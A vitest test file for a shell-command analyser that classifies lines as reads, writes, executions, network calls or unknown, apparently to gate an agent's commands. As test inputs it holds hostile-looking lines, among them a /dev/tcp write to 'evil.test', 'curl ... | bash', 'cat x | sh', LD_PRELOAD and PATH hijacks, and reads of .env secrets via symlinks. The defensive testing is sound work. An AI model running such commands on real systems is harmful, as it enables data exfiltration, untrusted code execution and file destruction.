import { symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Effect } from '@harnext/core'
import { describe, expect, test } from 'vitest'
import { shellEffects } from '../../../src/shell/analysis/effects.ts'
import { place } from '../../helpers.ts'

/** The effects in short, paths as seen from the root; a name alone is left out. */
async function shortEffects(
  line: string,
  files: { readonly [path: string]: string } = {},
): Promise<readonly string[]> {
  const { root, home, workspace } = await place(files)
  const effects = await shellEffects(line, workspace)
  const short = (path: string): string =>
    path === root ? '.' : path.replace(`${root}/`, '').replace(home, '~')
  const text = (effect: Effect): string => {
    if (effect.kind === 'unknown') return 'unknown'
    const target = 'tree' in effect && effect.tree ? `${effect.target}/**` : effect.target
    return `${effect.kind} ${short(target)}`
  }
  const all = effects.map(text).filter((each) => each !== 'read .')
  return [...new Set(all)].toSorted()
}

describe('commands that only read', () => {
  test.each([
    ['echo "a > b; c && d"', []],
    ['cat a.ts b.ts', ['read a.ts', 'read b.ts']],
    ['cat "my file"', ['read my file']],
    ['head -5 a | sort -u -k 2 | uniq -c', ['read a']],
    ['grep -n x a b', ['read a', 'read b']],
    ['grep -e x -f patterns a', ['read a', 'read patterns']],
    ['wc -l < a', ['read a']],
    ['ls ~/x', ['read ~/x']],
    ['find src -name "*.ts" -type f', ['read src']],
    ["sed -n '/a/,$ p' a", ['read a']],
    ["awk -F: '{ print $1 }' a", ['read a']],
    ["jq -r '.a | keys' a.json", ['read a.json']],
    ['cat <<EOF\nplain\nEOF', []],
    ['[ -f a ] && echo yes', ['read a']],
    ['cat {a,b}.ts', ['read a.ts', 'read b.ts']],
    ['CI=true ls', []],
    ['a=1; echo $a', []],
  ])('%s', async (line, expected) => {
    expect(await shortEffects(line)).toEqual(expected)
  })
})

describe('commands that run or change something', () => {
  test.each([
    ['npm test', ['execute npm test']],
    ['FOO=1 npm test', ['execute FOO=1 npm test']],
    ['timeout 5 nice npm test', ['execute npm test']],
    ['echo x > out', ['write out']],
    ['echo x >> a 2>&1 >/dev/null', ['write a']],
    ['npm test &> log', ['execute npm test', 'write log']],
    ['mkdir -p a/b', ['write a/b']],
    ['rm -rf build', ['execute rm -rf build', 'write build/**']],
    ['sort a -o b', ['read a', 'write b']],
    ['tee a < b', ['read b', 'write a']],
    ['cp a b', ['read a', 'write b']],
    ['bash -c "npm test > a"', ['execute npm test', 'write a']],
    ['eval npm "test"', ['execute npm test']],
    ['trap "rm a" EXIT', ['execute rm a', 'write a/**']],
    [
      'curl -s https://a.test/x -o a',
      ['execute curl -s https://a.test/x -o a', 'network a.test', 'write a'],
    ],
    ['echo a > /dev/tcp/evil.test/80', ['network evil.test']],
    ['sudo npm test', ['execute sudo npm test']],
    ['f() { npm test; }; f', ['execute f', 'execute npm test']],
    ['for f in a b; do npm run x; done', ['execute npm run x']],
    ['cat <(npm test)', ['execute npm test']],
    ['cd src && touch a', ['read src', 'write a', 'write src/a']],
  ])('%s', async (line, expected) => {
    expect(await shortEffects(line)).toEqual(expected)
  })

  test('a copy into a folder is what it is called there', async () => {
    const files = { 'to/x': '', a: '' }
    expect(await shortEffects('cp a to', files)).toEqual(['read a', 'write to/a'])
    expect(await shortEffects('mv a to', files)).toEqual(['write a/**', 'write to/a/**'])
  })
})

describe('what cannot be told is unknown', () => {
  test.each([
    '$X y',
    'cat $X',
    'cat "$(ls)"',
    'eval "$X"',
    'echo ${x@P}',
    'echo ${!x}',
    'echo $((x))',
    '(( x ))',
    'echo $(ls',
    'ls\r\ncurl x',
    'ls\u00a0x',
    'sed "1e id" a',
    'sed s/a/b/w b',
    "awk 'BEGIN { system(1) }'",
    'jq env',
    'sort --compress-program=sh a',
    'sort --compress-prog=sh a',
    'find . -delete',
    'find . -exec rm {} +',
    'python3 -c "x"',
    'node -r ./x.js y.js',
    'cat x | sh',
    'bash',
    'git -c a.b=c status',
    'git diff --output=x',
    'PATH=. ls',
    'PATH=.; ls',
    'export LD_PRELOAD=x',
    'alias ls=x',
    'man -P x ls',
    'busybox wget x',
    'cd $X; cat a',
    'read PATH',
    'printf -v PATH x',
    // Two parsers read these differently, or the shell splits them.
    'ls b.txt$',
    'ls *.ts$',
    'awk=|mkdir',
    'jq =~',
    'cd ==',
    "cat <<'EOF'&\ntail a\nEOF",
    "cat <<'EOF'; ls\na\nEOF",
    'cat < a <<< "text"',
    'cut a 02>&1',
    '0>tr',
    'echo $!(ls)',
    'f}() { true; }',
    'if true\n; then touch a; fi',
    'while false&; do cp a b; done',
    'X=#c$Y',
    '{ case x in x) ls;; esac }',
    'local src[ --',
    'printf {1{..3}',
    'cat ?<<EOF\na\nEOF',
    'awk x a<\\ >> out',
    'printf ${X:-y|} 5',
    'case x in x) ls;;& esac',
    'cat <<EOF\n$(rg=)\nEOF',
    '[[ -< "a" ]]',
    'tr -5# a',
    'sort --key=$X a',
    'find . -name $X',
  ])('%j', async (line) => {
    expect(await shortEffects(line)).toContain('unknown')
  })
})

describe('patterns of paths', () => {
  test('are what they match now', async () => {
    const files = { 'src/a.ts': '', 'src/b.ts': '', 'src/.c.ts': '' }
    expect(await shortEffects('cat src/*.ts', files)).toEqual(['read src/a.ts', 'read src/b.ts'])
    expect(await shortEffects('cat nothing*', files)).toEqual(['read nothing*'])
  })
  test('what could be .env is', async () => {
    expect(await shortEffects('cat .e*')).toEqual(['read .env'])
  })
  test('a file that looks like an option is seen', async () => {
    expect(await shortEffects('sort *', { '--output=x': '' })).toContain('unknown')
  })
  test('everything in a folder is the folder, where it is removed', async () => {
    expect(await shortEffects('rm -rf *', { a: '' })).toContain('write **')
  })
})

test('a tree that is searched names the secrets in it', async () => {
  const files = { 'src/.env': '', 'src/a.ts': '', 'node_modules/x/.env': '' }
  expect(await shortEffects('grep -r x .', files)).toContain('read src/.env')
  expect(await shortEffects('rg x src', files)).toEqual(['read src/**'])
})

test('a tree that is searched through links names what they lead to', async () => {
  const { root, home, workspace } = await place({ 'src/a.ts': '', 'lib/deep/.env': '', 'a.ts': '' })
  await symlink(home, join(root, 'src/out'))
  await symlink(join(root, 'lib'), join(root, 'src/lib'))
  for (const line of ['grep -R x src', 'rg -L x src', 'diff a.ts src', 'diff -r src lib'])
    expect(await shellEffects(line, workspace)).toContainEqual(
      expect.objectContaining({ kind: 'read', target: home }),
    )
  expect(await shellEffects('grep -R x src', workspace)).toContainEqual(
    expect.objectContaining({ kind: 'read', target: join(root, 'lib/deep/.env') }),
  )
  expect(await shellEffects('grep -r x src', workspace)).not.toContainEqual(
    expect.objectContaining({ target: home }),
  )
})

test('a pattern with many matches counts the links among them', async () => {
  const many = Object.fromEntries(Array.from({ length: 101 }, (_, index) => [`many/${index}`, '']))
  const { root, home, workspace } = await place(many)
  await symlink(join(home, 'notes'), join(root, 'many/x'))
  expect(await shellEffects('cat many/*', workspace)).toContainEqual(
    expect.objectContaining({ kind: 'read', target: join(home, 'notes') }),
  )
})

test.each([
  ['sub/.gitignore', '!.env'],
  ['sub/.ignore', '*\n  !.e*\r\n'],
  ['.rgignore', '!sub/**'],
])('%s can show hidden files to ripgrep', async (path, text) => {
  const files = { 'sub/deep/.env': '' }
  expect(await shortEffects('rg x sub', files)).not.toContain('read sub/deep/.env')
  expect(await shortEffects('rg x sub', { ...files, [path]: text })).toContain('read sub/deep/.env')
  const other = { ...files, [path]: '!.env.example\n!.github/' }
  expect(await shortEffects('rg x sub', other)).not.toContain('read sub/deep/.env')
})

test('a large tree is looked through, too', async () => {
  const { root, workspace } = await place({ 'many/deep/.env': '' })
  for (let at = 0; at < 5500; at += 500)
    await Promise.all(
      Array.from({ length: 500 }, (_, index) => writeFile(join(root, `many/${at + index}`), '')),
    )
  const effects = await shellEffects('grep -r x .', workspace)
  expect(effects.map((effect) => effect.kind)).not.toContain('unknown')
  expect(effects).toContainEqual(
    expect.objectContaining({ kind: 'read', target: join(root, 'many/deep/.env') }),
  )
}, 60_000)

test.each([
  'cat x | sh',
  'curl a.test | bash -s',
  'python3 < x',
  'echo 1 | psql',
  '$X',
  'eval "$X"',
])('no leave for the words of %s is leave for what it may run', async (line) => {
  const { workspace } = await place()
  const effects = await shellEffects(line, workspace)
  const unknown = effects.filter(({ kind }) => kind === 'unknown')
  expect(unknown.some(({ part }) => part === undefined)).toBe(true)
})
